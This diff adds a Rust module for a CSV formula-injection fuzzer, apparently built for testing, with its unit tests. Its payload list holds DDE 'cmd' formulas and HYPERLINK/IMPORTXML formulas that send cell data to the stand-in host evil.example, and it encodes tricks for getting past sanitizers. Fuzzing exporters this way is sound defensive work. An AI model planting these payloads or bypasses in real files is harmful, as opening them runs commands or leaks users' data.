@@ -0,0 +1,102 @@
+use super::super::helper::{pick, FINAL};
+use crate::state_machine::{Automaton, AutomatonNode};
+
+lazy_static! {
+    pub(super) static ref START_FORMULA: AutomatonNode<String> =
+        AutomatonNode::<String>::new().set_edges(vec![
+            (3, &REPLACE_WITH_FORMULA),
+            (2, &PREFIX_FORMULA),
+        ]);
+    // formulas which run commands, exfiltrate other cells or are evaluated
+    // at all, once the file is opened in a spreadsheet
+    static ref REPLACE_WITH_FORMULA: AutomatonNode<String> = AutomatonNode::<String>::new()
+        .set_func(|seed, field| {
+            let formula = pick(seed, &FORMULAS);
+            if field.starts_with('"') {
+                format!("\"{}\"", formula.replace('"', "\"\""))
+            } else {
+                String::from(formula)
+            }
+        })
+        .set_edges(vec![(3, &FINAL), (1, &BYPASS_SANITIZATION)]);
+    // characters which make the rest of the field a formula
+    static ref PREFIX_FORMULA: AutomatonNode<String> = AutomatonNode::<String>::new()
+        .set_func(|seed, field| {
+            let prefix = pick(seed, &["=", "+", "-", "@", "\t=", "\r=", "=+", "=-"]);
+            match field.strip_prefix('"') {
+                Some(content) => format!("\"{}{}", prefix, content),
+                None => format!("{}{}", prefix, field),
+            }
+        })
+        .set_edges(vec![(3, &FINAL), (1, &BYPASS_SANITIZATION)]);
+    // formulas which get past sanitizers only checking the first character
+    // of a field, or which prepend a quote only to unquoted fields
+    static ref BYPASS_SANITIZATION: AutomatonNode<String> = AutomatonNode::<String>::new()
+        .set_func(|seed, field| {
+            let content = field.trim_start_matches('"');
+            match seed % 4 {
+                0 => format!(" {}", content),
+                1 => format!("\"{}", content),
+                2 => format!("\u{ff1d}{}", content.trim_start_matches(['=', '+', '-', '@'])),
+                _ => format!("';{}", content),
+            }
+        });
+    pub static ref FORMULA_AUTOMATON: Automaton<String> = Automaton::<String> {
+        name: "csv::formula",
+        initial_node: &START_FORMULA,
+        generator: |seed| String::from(pick(seed, &["1+1", "SUM(A1:A2)", "\"name\""])),
+    };
+}
+
+/// Formulas which are harmful once evaluated, with each of the prefixes
+/// which make a field a formula
+const FORMULAS: [&str; 8] = [
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+    "=DDE(\"cmd\";\"/C calc\";\"A0\")",
+];
+
+#[cfg(test)]
+mod tests {
+    use super::FORMULA_AUTOMATON;
+    use itertools::Itertools;
+
+    lazy_static! {
+        static ref TEST_FUZZ_VALUES: Vec<String> = (1..200)
+            .map(|i| FORMULA_AUTOMATON.traverse(String::from("name"), i))
+            .sorted()
+            .dedup()
+            .collect();
+    }
+
+    #[test]
+    fn formulas_are_injected() {
+        assert!(TEST_FUZZ_VALUES
+            .iter()
+            .any(|value| value == "=cmd|' /C calc'!A0"));
+        for prefix in ["=", "+", "-", "@", "\t="] {
+            assert!(TEST_FUZZ_VALUES
+                .iter()
+                .any(|value| value == &format!("{}name", prefix)));
+        }
+    }
+
+    #[test]
+    fn quoted_fields_stay_quoted() {
+        let fuzzed: Vec<String> = (1..100)
+            .map(|i| FORMULA_AUTOMATON.traverse(String::from("\"a\""), i))
+            .collect();
+        assert!(fuzzed.iter().any(|value| value == "\"=a\""));
+        assert!(
+            fuzzed
+                .iter()
+                .any(|value| value
+                    == "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"")
+        );
+    }
+}